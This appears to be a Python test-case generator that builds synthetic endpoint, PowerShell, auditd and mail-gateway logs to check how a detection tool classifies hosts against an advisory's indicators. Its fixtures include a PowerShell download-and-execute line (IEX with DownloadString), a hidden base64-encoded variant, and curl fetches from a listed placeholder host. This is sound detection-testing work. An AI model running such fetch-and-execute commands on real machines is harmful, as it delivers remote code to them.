"""What agents on machines, event logs and mail gateways saw: programs that ran or were stopped, commands, messages."""
import json
from house import BAD, DAYS, NAME, NOT_SEEN, SENDER, SHA256, TARGETED, URL, WS, Case, advisory, affected, at, ordinary_flows, said
from flows import fortigate, log as flow_log
from names import bind, log as name_log, ordinary as names_asked
from web import browsing, log as web_log, squid

NETWORK = {'logs/edge.log': flow_log(fortigate, ordinary_flows()), 'logs/query.log': name_log(bind, names_asked()), 'logs/proxy.log': web_log(squid, browsing())}
OTHER = 'ab' * 32


# ---- programs: (when, hash, path, command, stopped)

def sysmon_xml(t, sha, path, command, stopped):
    data = {'UtcTime': f'{t:%Y-%m-%d %H:%M:%S}.120', 'Image': path, 'CommandLine': command, 'User': 'HOSP\\chem', 'Hashes': f'SHA256={sha.upper()},IMPHASH={"0" * 32}',
            'ParentImage': 'C:\\Windows\\explorer.exe'}
    cells = ''.join(f'<Data Name="{k}">{v.replace("&", "&amp;").replace("<", "&lt;")}</Data>' for k, v in data.items())
    return (f'<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><Provider Name="Microsoft-Windows-Sysmon"/><EventID>1</EventID>'
            f'<TimeCreated SystemTime="{t:%Y-%m-%dT%H:%M:%S}.1200000Z"/><EventRecordID>{int(t.timestamp()) // 60}</EventRecordID><Channel>Microsoft-Windows-Sysmon/Operational</Channel>'
            f'<Computer>lab-ws07</Computer></System><EventData>{cells}</EventData></Event>')


def sysmon_json(t, sha, path, command, stopped):
    return json.dumps({'@timestamp': f'{t:%Y-%m-%dT%H:%M:%S}.120Z', 'host': {'name': 'lab-ws07'}, 'event': {'code': 1, 'provider': 'Microsoft-Windows-Sysmon', 'action': 'Process Create'},
                       'winlog': {'channel': 'Microsoft-Windows-Sysmon/Operational', 'event_id': 1, 'computer_name': 'lab-ws07', 'event_data': {
                           'Image': path, 'CommandLine': command, 'Hashes': f'SHA256={sha}', 'User': 'HOSP\\chem'}},
                       'process': {'executable': path, 'command_line': command, 'hash': {'sha256': sha}}})


def defender(t, sha, path, command, stopped):
    return json.dumps({'Timestamp': f'{t:%Y-%m-%dT%H:%M:%S}.1200000Z', 'DeviceName': 'lab-ws07', 'ActionType': 'AntivirusDetection' if stopped else 'ProcessCreated',
                       'FileName': path.split('\\')[-1], 'FolderPath': path, 'SHA256': sha, 'ProcessCommandLine': command, 'AccountName': 'chem',
                       **({'AdditionalFields': json.dumps({'WasRemediated': True, 'Action': 'Quarantine', 'ActionSuccess': True})} if stopped else {})})


def crowdstrike(t, sha, path, command, stopped):
    if stopped:
        return json.dumps({'metadata': {'customerIDString': 'c', 'offset': 1, 'eventType': 'DetectionSummaryEvent', 'eventCreationTime': int(t.timestamp() * 1000)},
                           'event': {'ProcessStartTime': int(t.timestamp()), 'ComputerName': 'lab-ws07', 'UserName': 'chem', 'LocalIP': WS, 'DetectName': 'Malware', 'FileName': path.split('\\')[-1],
                                     'FilePath': '\\Device\\HarddiskVolume2\\Users', 'CommandLine': command, 'SHA256String': sha, 'SeverityName': 'High',
                                     'PatternDispositionDescription': 'Prevention, process was blocked from execution.', 'PatternDispositionValue': 2048}})
    return json.dumps({'event_simpleName': 'ProcessRollup2', 'timestamp': str(int(t.timestamp() * 1000)), 'ComputerName': 'lab-ws07', 'aip': '192.0.2.1', 'LocalAddressIP4': WS,
                       'ImageFileName': '\\Device\\HarddiskVolume2' + path[2:], 'CommandLine': command, 'SHA256HashData': sha, 'UserName': 'chem'})


def clamd(t, sha, path, command, stopped):
    """An agent that writes key=value: what it found, and what it did."""
    return (f'date={t:%Y-%m-%d} time={t:%H:%M:%S} tz="+0000" host="lab-ws07" product="EndpointGuard" event="{"malware blocked" if stopped else "process start"}" '
            f'action="{"blocked" if stopped else "allowed"}" file="{path}" sha256={sha} user="chem"')


AGENTS = [('Sysmon XML', sysmon_xml, 'sysmon.xml', False), ('Sysmon JSON', sysmon_json, 'sysmon.ndjson', False), ('Defender', defender, 'device.ndjson', True),
          ('CrowdStrike', crowdstrike, 'falcon.ndjson', True), ('key=value agent', clamd, 'agent.log', True)]
PROGRAM_PATH = 'C:\\Users\\chem\\AppData\\Local\\agentd.exe'


def ran(write, *events):
    ordinary = [(at(day, '08:30:00'), OTHER, 'C:\\Program Files\\Lab\\lims.exe', 'lims.exe /start', False) for day in range(1, DAYS + 1)]
    return ''.join(write(*e) + '\n' for e in sorted([*ordinary, *events]))


def programs():
    for family, write, path, stops in AGENTS:
        def ask(sentence, events, expect):
            return Case(f'{family}: {sentence}', {**NETWORK, f'agents/{path}': ran(write, *events)}, expect)
        yield ask('a spring of other programs has nothing listed', [], said('not-seen/inconclusive', machines=[]))
        yield ask('the listed program that was started is AFFECTED, strong', [(at(40), SHA256, PROGRAM_PATH, 'agentd.exe', False)], affected('strong', 'lab-ws07'))
        if stops:
            yield ask('the listed program that the agent stopped is TARGETED', [(at(40), SHA256, PROGRAM_PATH, 'agentd.exe', True)],
                      said('targeted', machines=[], findings=[{'outcome': 'blocked-by-agent'}]))
        yield ask('a hash that differs in its last letter is not the listed one', [(at(40), SHA256[:-1] + ('0' if SHA256[-1] != '0' else '1'), PROGRAM_PATH, 'x.exe', False)],
                  said('not-seen/inconclusive', machines=[]))
        if write is not clamd:
            yield ask('a command that fetches from the listed place is AFFECTED',
                      [(at(40), OTHER, 'C:\\Windows\\System32\\curl.exe', f'curl.exe -s -o p.zip {URL}', False)], affected('weak/moderate/strong', 'lab-ws07'))
            yield ask('a command that fetches from elsewhere is not', [(at(40), OTHER, 'C:\\Windows\\System32\\curl.exe', 'curl.exe -s https://www.example.org/', False)],
                      said('not-seen/inconclusive', machines=[]))


def powershell(t, script):
    return (f'<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><Provider Name="Microsoft-Windows-PowerShell"/><EventID>4104</EventID>'
            f'<TimeCreated SystemTime="{t:%Y-%m-%dT%H:%M:%S}.1200000Z"/><EventRecordID>4711</EventRecordID><Channel>Microsoft-Windows-PowerShell/Operational</Channel><Computer>lab-ws07</Computer>'
            f'</System><EventData><Data Name="MessageNumber">1</Data><Data Name="MessageTotal">1</Data><Data Name="ScriptBlockText">{script.replace("&", "&amp;").replace("<", "&lt;")}</Data>'
            '</EventData></Event>\n')


def created(t, command):
    return (f'<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><Provider Name="Microsoft-Windows-Security-Auditing"/><EventID>4688</EventID>'
            f'<TimeCreated SystemTime="{t:%Y-%m-%dT%H:%M:%S}.1200000Z"/><EventRecordID>4711</EventRecordID><Channel>Security</Channel><Computer>lab-ws07</Computer></System><EventData>'
            f'<Data Name="SubjectUserName">chem</Data><Data Name="NewProcessName">C:\\Windows\\System32\\cmd.exe</Data><Data Name="CommandLine">{command}</Data></EventData></Event>\n')


def encoded(script):
    import base64
    return 'powershell.exe -nop -w hidden -enc ' + base64.b64encode(script.encode('utf-16-le')).decode()


def auditd(t, *words):
    when = f'{t.timestamp():.3f}:4711'
    args = ' '.join(f'a{n}="{w}"' for n, w in enumerate(words))
    return (f'node=lab-ws07 type=SYSCALL msg=audit({when}): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=4711 auid=1000 uid=1000 comm="{words[0]}" exe="/usr/bin/{words[0]}" key="exec"\n'
            f'node=lab-ws07 type=EXECVE msg=audit({when}): argc={len(words)} {args}\n')


def commands():
    here = affected('weak/moderate/strong', 'lab-ws07')
    fetch = f"IEX (New-Object Net.WebClient).DownloadString('http://{NAME}/x')"
    yield Case('A PowerShell block that fetches from the listed name is AFFECTED', {**NETWORK, 'agents/ps.xml': powershell(at(40), fetch)}, here)
    yield Case('A PowerShell block that was defanged and made whole again is AFFECTED',
               {**NETWORK, 'agents/ps.xml': powershell(at(40), f"$h = '{NAME.replace('.', '[.]')}'.Replace('[.]','.'); iwr http://$h/x")}, here)
    yield Case('A started command with the listed name is AFFECTED', {**NETWORK, 'agents/security.xml': created(at(40), f'cmd.exe /c curl http://{NAME}/x')}, here)
    yield Case('A command in base64 is read, and AFFECTED', {**NETWORK, 'agents/security.xml': created(at(40), encoded(fetch))}, here)
    yield Case('A command in base64 about something else is not', {**NETWORK, 'agents/security.xml': created(at(40), encoded('Get-Date'))}, said('not-seen/inconclusive', machines=[]))
    yield Case('A command of Linux auditing with the listed URL is AFFECTED', {**NETWORK, 'agents/audit.log': auditd(at(40), 'curl', '-s', URL)}, here)
    yield Case('A command that blocks the listed address is a mention', {**NETWORK, 'agents/audit.log': auditd(at(40), 'iptables', '-A', 'OUTPUT', '-d', BAD, '-j', 'DROP')},
               said('not-seen/inconclusive', machines=[], no_finding=[{'class': 'compromise'}]))


# ---- mail gateways: (when, sender, recipient, delivered)

def postfix(n, t, sender, recipient, delivered):
    head, queue = f'{t:%Y-%m-%dT%H:%M:%S}+00:00 mx postfix/', f'4F{n:05X}'
    if not delivered:
        return (f'{head}smtpd[4711]: NOQUEUE: reject: RCPT from mail.example.org[198.51.100.25]: 550 5.7.1 <{recipient}>: Recipient address rejected: blocked; '
                f'from=<{sender}> to=<{recipient}> proto=ESMTP helo=<mail.example.org>')
    return (f'{head}smtpd[4711]: {queue}: client=mail.example.org[198.51.100.25]\n{head}qmgr[812]: {queue}: from=<{sender}>, size=4711, nrcpt=1 (queue active)\n'
            f'{head}lmtp[913]: {queue}: to=<{recipient}>, relay=mail[private/dovecot-lmtp], delay=0.2, dsn=2.0.0, status=sent (250 2.0.0 <{recipient}> Saved)')


def exim(n, t, sender, recipient, delivered):
    queue = f'1l{n:04d}-0000aB-7X'
    if not delivered:
        return f'{t:%Y-%m-%d %H:%M:%S} H=mail.example.org [198.51.100.25] F=<{sender}> rejected RCPT <{recipient}>: blocked sender'
    return (f'{t:%Y-%m-%d %H:%M:%S} {queue} <= {sender} H=mail.example.org [198.51.100.25] P=esmtps S=4711 id=a{n}@example.org\n'
            f'{t:%Y-%m-%d %H:%M:%S} {queue} => chem.lab <{recipient}> R=local_user T=local_delivery\n{t:%Y-%m-%d %H:%M:%S} {queue} Completed')


def trace(n, t, sender, recipient, delivered):
    return (f'{t:%Y-%m-%dT%H:%M:%S}.0000000Z,{sender},{recipient},Programme of the day,{"Delivered" if delivered else "FilteredAsSpam"},198.51.100.25,<a{n}@example.org>')


GATEWAYS = [('Postfix', postfix, 'mail.log', ''), ('Exim', exim, 'exim-main.log', ''),
            ('Message trace', trace, 'trace.csv', 'Received,SenderAddress,RecipientAddress,Subject,Status,FromIP,MessageId\n')]


def gateways():
    lab = 'chem.lab@hospital.example'
    for family, write, path, head in GATEWAYS:
        def ask(sentence, messages, expect):
            ordinary = [(at(day, '09:15:00'), 'someone@example.org', lab, True) for day in range(1, DAYS + 1)]
            lines = ''.join(write(n, *m) + '\n' for n, m in enumerate(sorted([*ordinary, *messages])))
            return Case(f'{family}: {sentence}', {**NETWORK, f'mail/{path}': head + lines}, expect)
        yield ask('a spring without the listed sender has nothing listed', [], said('not-seen/inconclusive', machines=[]))
        yield ask('a message of the listed sender that was delivered is TARGETED', [(at(40), SENDER, lab, True)],
                  said('targeted', machines=[], findings=[{'class': 'attempt'}]))
        yield ask('a message of the listed sender that was turned away is TARGETED', [(at(40), SENDER, lab, False)], said('targeted', machines=[], findings=[{'class': 'attempt'}]))
        yield ask('a message of somebody else at another place is not', [(at(40), SENDER.replace('moth-', 'mouth-'), lab, True)], said('not-seen/inconclusive', machines=[]))
        yield ask('mail from here to the listed sender began here', [(at(40), lab, SENDER, True)], said('affected/targeted/inconclusive', no_finding=[]))


def cases():
    yield from programs()
    yield from commands()
    yield from gateways()
